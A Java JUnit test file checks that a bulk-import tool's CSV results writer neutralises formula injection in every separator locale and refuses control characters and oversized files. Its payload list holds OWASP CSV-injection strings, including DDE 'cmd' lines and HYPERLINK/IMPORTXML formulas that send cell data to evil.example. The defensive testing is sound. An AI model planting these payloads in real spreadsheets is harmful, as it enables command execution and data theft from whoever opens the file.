package dev.tenantconnect.bulk;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tenantconnect.bulk.internal.ResultsWriter;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Results files are safe in every spreadsheet locale: OWASP CSV-injection payloads, written in comma, semicolon and
 * tab files and read back split by each separator (as a spreadsheet in each locale would), never give a cell that
 * starts a formula; control characters never reach a results file raw; input cells that would are refused.
 */
class ResultsFileSafetyTest {
    /** OWASP CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and locale variants. */
    static final List<String> PAYLOADS = List.of(
            "=cmd|' /C calc'!A0",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
            "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
            "\t=1+1",
            "\r=1+1",
            " =1+1",
            "\"=1+1\"",
            "'=1+1",
            "\uff1d1+1",
            "Bob Smith;=cmd|' /C calc'!A0;x",
            "Bob Smith,=cmd|' /C calc'!A0,x",
            "Bob Smith\t=cmd|' /C calc'!A0\tx",
            "Bob Smith; =cmd|' /C calc'!A0",
            "Bob Smith;\"=cmd|' /C calc'!A0\"",
            "Bob Smith;\" +1\"",
            "a;-2+3;b,@x,c\t+y",
            "x\n=1+1",
            "x\r\n-1+1");

    static final List<Character> SEPARATORS = List.of(',', ';', '\t');

    private static Path write(Path dir, char delimiter) {
        Path out = dir.resolve("results-" + (int) delimiter + ".csv");
        ResultsWriter.write(records -> {
            records.accept(1, List.of("Ext Key", "Number", "User"), true, delimiter);
            for (int i = 0; i < PAYLOADS.size(); i++) {
                String p = PAYLOADS.get(i);
                records.accept(i + 2, List.of(p, "+6567891230", p), false, delimiter);
            }
            return "sha";
        }, out, line -> new ResultsWriter.Row("FAILED", "-", "", PAYLOADS.get((int) line - 2),
                "=fix " + PAYLOADS.get((int) line - 2)));
        return out;
    }

    /** A spreadsheet in one locale: splits at its separator, honouring quotes. */
    static List<String> splitQuoted(String line, char sep) {
        List<String> cells = new ArrayList<>();
        StringBuilder cur = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            if (c == '"') {
                if (quoted && i + 1 < line.length() && line.charAt(i + 1) == '"') {
                    cur.append('"');
                    i++;
                } else {
                    quoted = !quoted;
                }
            } else if (c == sep && !quoted) {
                cells.add(cur.toString());
                cur.setLength(0);
            } else {
                cur.append(c);
            }
        }
        cells.add(cur.toString());
        return cells;
    }

    /** A spreadsheet in another locale that ignores the quoting: splits at every separator. */
    static List<String> splitNaive(String line, char sep) {
        return List.of(line.split(java.util.regex.Pattern.quote(String.valueOf(sep)), -1));
    }

    static boolean startsFormula(String cell) {
        String s = cell.replaceFirst("^[ \\u00a0\"]+", "");
        return !s.isEmpty() && "=+-@\t\r\uff1d\uff0b\uff0d\uff20".indexOf(s.charAt(0)) >= 0;
    }

    @Test
    void no_payload_starts_a_formula_in_any_locale_however_the_file_is_split(@TempDir Path dir) throws IOException {
        int cellsChecked = 0;
        for (char delimiter : SEPARATORS) {
            String text = Files.readString(write(dir, delimiter), StandardCharsets.UTF_8);
            List<String> lines = List.of(text.split("\r\n"));
            assertThat(lines).hasSize(PAYLOADS.size() + 1);
            for (String line : lines) {
                assertThat(line.chars().filter(c -> c < 0x20 && c != '\t')).as("no raw control character").isEmpty();
                for (char locale : SEPARATORS) {
                    for (String cell : splitQuoted(line, locale)) {
                        assertThat(startsFormula(cell)).as("file '%s', read in a '%s' locale: %s", delimiter, locale,
                                cell).isFalse();
                        cellsChecked++;
                    }
                    for (String cell : splitNaive(line, locale)) {
                        assertThat(startsFormula(cell)).as("file '%s', split naively at '%s': %s", delimiter, locale,
                                cell).isFalse();
                        cellsChecked++;
                    }
                }
            }
        }
        assertThat(cellsChecked).as("the corpus was actually read back").isGreaterThan(PAYLOADS.size() * 9 * 5);
    }

    @Test
    void every_cell_is_quoted_and_a_file_of_its_own_locale_reads_back_the_text(@TempDir Path dir) throws IOException {
        String text = Files.readString(write(dir, ','), StandardCharsets.UTF_8);
        String row = text.split("\r\n")[1];

        List<String> cells = splitQuoted(row, ',');
        assertThat(row).startsWith("\"'=cmd|' /C calc'!A0\",\"'+6567891230\",");
        assertThat(cells).hasSize(8).allSatisfy(c -> assertThat(row).contains("\"" + c.replace("\"", "\"\"") + "\""));
        assertThat(ResultsWriter.cell("Bob Smith;=cmd|' /C calc'!A0;x"))
                .isEqualTo("\"Bob Smith;'=cmd|' /C calc'!A0;x\"");
        assertThat(ResultsWriter.cell("a\u0007b\u202ec")).isEqualTo("\"a\\u0007b\\u202ec\"");
    }

    @Test
    void the_results_file_is_readable_by_its_owner_only(@TempDir Path dir) throws IOException {
        assertThat(Files.getPosixFilePermissions(write(dir, ',')))
                .isEqualTo(Set.of(PosixFilePermission.OWNER_READ, PosixFilePermission.OWNER_WRITE));
    }

    private static FileReport validate(BulkFileFormat format, String csv) throws IOException {
        return format.read(new ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)), r -> { });
    }

    @ParameterizedTest
    @ValueSource(strings = {"Bob Smith;=cmd|' /C calc'!A0;x", "Bob Smith, @SUM(1)", "Bob;\"+1\"", "Bob;-2"})
    void input_cells_that_would_run_a_formula_in_another_locale_are_refused(String user) throws IOException {
        String quoted = "\"" + user.replace("\"", "\"\"") + "\"";
        FileReport r = validate(BulkFileFormat.standard(), "Ext Key,Number,User,Addon license 1\n"
                + "101,+6567891230," + quoted + ",call_recording\n");

        assertThat(r.validRows()).isZero();
        assertThat(r.problems()).extracting(RowProblem::toString).containsExactly("line 2, column 'User': holds a "
                + "spreadsheet formula after a ',' or ';' (a spreadsheet in another locale would split the cell there "
                + "and run it); remove it");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Bob\tSmith", "Bob\u202eSmith", "Bob\u0085Smith", "Bob\u2028Smith"})
    void control_characters_in_free_text_are_refused_naming_row_and_field(String user) throws IOException {
        FileReport r = validate(BulkFileFormat.standard(), "Ext Key,Number,User,Addon license 1\n"
                + "101,+6567891230,\"" + user + "\",call_recording\n");

        assertThat(r.validRows()).isZero();
        assertThat(r.problems()).singleElement().satisfies(p -> {
            assertThat(p.line()).isEqualTo(2);
            assertThat(p.column()).isEqualTo("User");
            assertThat(p.rule()).startsWith("contains a control character (U+");
        });
    }

    @Test
    void a_file_over_the_row_limit_is_refused_as_a_whole() throws IOException {
        StringBuilder csv = new StringBuilder("Ext Key,Number,User,Addon license 1\n");
        for (int i = 0; i < 6; i++) {
            csv.append(100 + i).append(",+656789123").append(i).append(",u").append(i).append("@contoso.example,"
                    + "call_recording\n");
        }
        BulkFileFormat capped = BulkFileFormat.standard().withLimits(5, 1 << 20);

        FileReport r = validate(capped, csv.toString());

        assertThat(r.readToEnd()).isFalse();
        assertThat(r.problems()).extracting(RowProblem::toString)
                .containsExactly("line 7: the file has more than 5 rows, the limit for one bulk file; "
                        + "split it");
        assertThat(validate(BulkFileFormat.standard().withLimits(6, 1 << 20), csv.toString()).ok()).isTrue();
    }

    @Test
    void a_file_over_the_byte_limit_is_refused_as_a_whole() throws IOException {
        StringBuilder csv = new StringBuilder("Ext Key,Number,User,Addon license 1\n");
        for (int i = 0; i < 2000; i++) {
            csv.append(1000 + i).append(",,u").append(i).append("@contoso.example,call_recording\n");
        }
        int size = csv.toString().getBytes(StandardCharsets.UTF_8).length;

        FileReport r = validate(BulkFileFormat.standard().withLimits(1_000_000, size - 1), csv.toString());

        assertThat(r.readToEnd()).isFalse();
        assertThat(r.problems()).extracting(RowProblem::rule).contains("the file is larger than " + (size - 1)
                + " bytes, the limit for one bulk file; split it");
        assertThat(validate(BulkFileFormat.standard().withLimits(1_000_000, size), csv.toString()).ok()).isTrue();
    }
}
